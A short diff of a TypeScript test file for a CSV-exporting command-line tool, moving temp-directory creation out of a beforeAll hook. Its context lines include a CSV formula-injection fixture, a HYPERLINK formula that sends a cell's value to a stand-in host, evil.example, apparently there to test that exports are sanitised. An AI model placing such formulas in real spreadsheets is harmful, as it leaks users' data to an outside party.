@@ -7,11 +7,8 @@ import path from 'node:path';
 import { parseString } from 'fast-csv';
 import { ensureBuilt, runCli } from '../helpers/cli.js';
 
-let tmp: string;
-beforeAll(() => {
-  ensureBuilt();
-  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'newsfacts-csv-'));
-});
+const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'newsfacts-csv-'));
+beforeAll(ensureBuilt);
 afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
 
 const FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
